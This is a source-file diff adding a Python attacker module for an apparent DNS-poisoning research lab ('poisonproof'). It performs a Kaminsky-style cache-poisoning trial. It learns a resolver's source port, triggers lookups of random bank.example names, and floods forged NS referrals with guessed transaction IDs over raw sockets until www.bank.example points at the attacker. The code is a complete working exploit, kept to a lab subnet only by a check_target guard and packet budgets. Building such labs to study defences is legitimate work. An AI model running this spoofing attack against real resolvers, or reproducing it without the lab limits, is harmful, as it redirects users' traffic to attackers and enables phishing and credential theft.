@@ -1,0 +1,235 @@
+"""The attacker of the real-packet lab: one Kaminsky trial with spoofed datagrams.
+
+Runs inside the attacker's network namespace (`python -m poisonproof.lab.real_attacker
+JSON`): learns the resolver's query port if it is not told (it makes the resolver ask the
+attacker's own zone and reads the port from its server's query log), then, attempt by
+attempt, asks the resolver for a fresh random name under the victim zone and floods
+forged referrals (the victim's server as source, the guessed port, a new set of IDs per
+window) through a raw socket, and checks, as a victim would, whether the resolver now
+sends `www.bank.example` to the attacker. Prints one JSON object with the result.
+Must never: send to an address outside the lab (every target goes through
+`check_target`), or run without a packet and time budget.
+"""
+
+from __future__ import annotations
+
+import ipaddress
+import json
+import random
+import socket
+import sys
+import time
+from dataclasses import asdict, dataclass, field
+from pathlib import Path
+
+import dns.flags
+import dns.message
+import dns.name
+import dns.rcode
+import dns.rdatatype
+import dns.rrset
+
+from poisonproof.lab.guesses import GuessSequence
+from poisonproof.lab.spoofer import ReplyTemplate, Spoofer, check_target
+
+ID_SPACE = 65536
+LAB_SUBNET = ipaddress.ip_network("10.53.0.0/16")
+TRIGGER_LEAD = 0.002
+"""Seconds between the trigger query and the first forged reply (the resolver's own query
+to the victim's server must be out before a forgery can match it)."""
+
+
+@dataclass(frozen=True)
+class AttackerJob:
+    resolver: str
+    victim_servers: tuple[str, ...]
+    attacker: str
+    attacker_log: str
+    """The query log of the attacker's own authoritative server (to learn the port)."""
+    port: int | None
+    """The resolver's query source port, when the attacker is told it (SEED-style)."""
+    rate: float
+    """Forged replies per second to aim at; the flood is sent as fast as the spoofer can
+    and then waits out the window, so the packets per window is rate x window."""
+    window: float
+    budget_packets: int
+    budget_seconds: float
+    seed: int
+    victim_zone: str = "bank.example."
+    attacker_ns: str = "ns.attacker.example."
+    www: str = "www.bank.example."
+
+
+@dataclass
+class AttackerResult:
+    success: bool = False
+    attempts: int = 0
+    packets: int = 0
+    seconds: float = 0.0
+    flood_seconds: float = 0.0
+    port: int | None = None
+    port_learned: bool = False
+    victim_sees: list[str] = field(default_factory=list)
+    trigger_rtts: list[float] = field(default_factory=list)
+    """Seconds from each trigger to the resolver's answer to it (window + overheads)."""
+    errors: int = 0
+    note: str = ""
+
+
+def _in_lab(address: str) -> bool:
+    return ipaddress.ip_address(address) in LAB_SUBNET
+
+
+def forged_referral(qname: dns.name.Name, job: AttackerJob) -> bytes:
+    """A reply to `qname A` delegating the whole victim zone to the attacker (ID 0)."""
+    query = dns.message.make_query(qname, "A")
+    reply = dns.message.make_response(query)
+    reply.id = 0
+    reply.flags &= ~dns.flags.AA
+    reply.authority = [dns.rrset.from_text(job.victim_zone, 86400, "IN", "NS", job.attacker_ns)]
+    reply.additional = [dns.rrset.from_text(job.attacker_ns, 86400, "IN", "A", job.attacker)]
+    return reply.to_wire()
+
+
+class Client:
+    """The attacker's own plain DNS client (it may query the resolver, as Kaminsky's could)."""
+
+    def __init__(self, source: str, resolver: str) -> None:
+        check_target(resolver, _in_lab)
+        self.resolver = resolver
+        self.sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+        self.sock.bind((source, 0))
+
+    def send(self, name: str, rdtype: str = "A") -> int:
+        query = dns.message.make_query(name, rdtype)
+        self.sock.sendto(query.to_wire(), (self.resolver, 53))
+        return query.id
+
+    def wait(self, txid: int, timeout: float) -> dns.message.Message | None:
+        deadline = time.monotonic() + timeout
+        while (left := deadline - time.monotonic()) > 0:
+            self.sock.settimeout(left)
+            try:
+                data, _ = self.sock.recvfrom(65535)
+            except TimeoutError:
+                return None
+            try:
+                message = dns.message.from_wire(data)
+            except Exception:
+                continue
+            if message.id == txid:
+                return message
+        return None
+
+    def ask(self, name: str, rdtype: str = "A", timeout: float = 3.0) -> dns.message.Message | None:
+        return self.wait(self.send(name, rdtype), timeout)
+
+    def close(self) -> None:
+        self.sock.close()
+
+
+def addresses(message: dns.message.Message | None, name: str) -> list[str]:
+    if message is None:
+        return []
+    owner = dns.name.from_text(name)
+    return sorted(
+        r.address  # type: ignore[attr-defined]
+        for rrset in message.answer
+        if rrset.rdtype == dns.rdatatype.A and rrset.name == owner
+        for r in rrset
+    )
+
+
+def learn_port(client: Client, log: Path, rng: random.Random, timeout: float = 3.0) -> int | None:
+    """Make the resolver ask the attacker's zone; its source port is in the attacker's log."""
+    probe = f"p{rng.getrandbits(32):08x}.attacker.example."
+    client.ask(probe, timeout=timeout)
+    deadline = time.monotonic() + timeout
+    while time.monotonic() < deadline:
+        for line in log.read_text().splitlines() if log.exists() else []:
+            record = json.loads(line)
+            if str(record.get("qname", "")).lower() == probe:
+                return int(record["port"])
+        time.sleep(0.01)
+    return None
+
+
+def run(job: AttackerJob) -> AttackerResult:
+    for address in (job.resolver, *job.victim_servers):
+        check_target(address, _in_lab)
+    rng = random.Random(job.seed)
+    result = AttackerResult(port=job.port)
+    client = Client(job.attacker, job.resolver)
+    started = time.monotonic()
+    try:
+        if result.port is None:
+            result.port = learn_port(client, Path(job.attacker_log), rng)
+            result.port_learned = result.port is not None
+        if result.port is None:
+            result.note = "could not learn the resolver's query port"
+            return result
+        per_window = max(1, int(job.rate * job.window))
+        spoofers = [
+            Spoofer((server, 53), job.resolver, allowed=_in_lab) for server in job.victim_servers
+        ]
+        try:
+            while (
+                result.packets < job.budget_packets
+                and time.monotonic() - started < job.budget_seconds
+            ):
+                result.attempts += 1
+                qname = dns.name.from_text(f"x{rng.getrandbits(32):08x}.{job.victim_zone}")
+                template = ReplyTemplate(forged_referral(qname, job))
+                trigger_sent = time.monotonic()
+                txid = client.send(qname.to_text())
+                time.sleep(TRIGGER_LEAD)
+                sequence = GuessSequence.random(ID_SPACE, rng)
+                budget_left = job.budget_packets - result.packets
+                count = min(per_window, budget_left)
+                # N servers: the guesses are shared among them (the resolver picks one)
+                share = max(1, count // len(spoofers))
+                for index, spoofer in enumerate(spoofers):
+                    ids = [sequence.value(j) for j in range(index * share, (index + 1) * share)]
+                    stats = spoofer.flood(
+                        template,
+                        [result.port],
+                        ids,
+                        max_packets=len(ids),
+                        max_seconds=max(job.window, 0.05) * 2,
+                    )
+                    result.packets += stats.packets
+                    result.flood_seconds += stats.seconds
+                    result.errors += stats.errors
+                answer = client.wait(txid, job.window + 2.0)
+                if answer is not None:
+                    result.trigger_rtts.append(round(time.monotonic() - trigger_sent, 6))
+                # the trigger's own answer shows a won race: the fake zone answers every
+                # name with the attacker's address (www is not asked during the attack: a
+                # cached real answer would hide the poisoned delegation until it expires)
+                if job.attacker in addresses(answer, qname.to_text()):
+                    result.success = True
+                    break
+            result.victim_sees = addresses(client.ask(job.www), job.www)
+        finally:
+            for spoofer in spoofers:
+                spoofer.close()
+    finally:
+        client.close()
+        result.seconds = round(time.monotonic() - started, 6)
+    return result
+
+
+def main(argv: list[str] | None = None) -> int:
+    args = sys.argv[1:] if argv is None else argv
+    if len(args) != 1:
+        print("usage: python -m poisonproof.lab.real_attacker JOB_JSON", file=sys.stderr)
+        return 2
+    raw = json.loads(args[0])
+    raw["victim_servers"] = tuple(raw["victim_servers"])
+    result = run(AttackerJob(**raw))
+    print(json.dumps(asdict(result)))
+    return 0
+
+
+if __name__ == "__main__":
+    raise SystemExit(main())
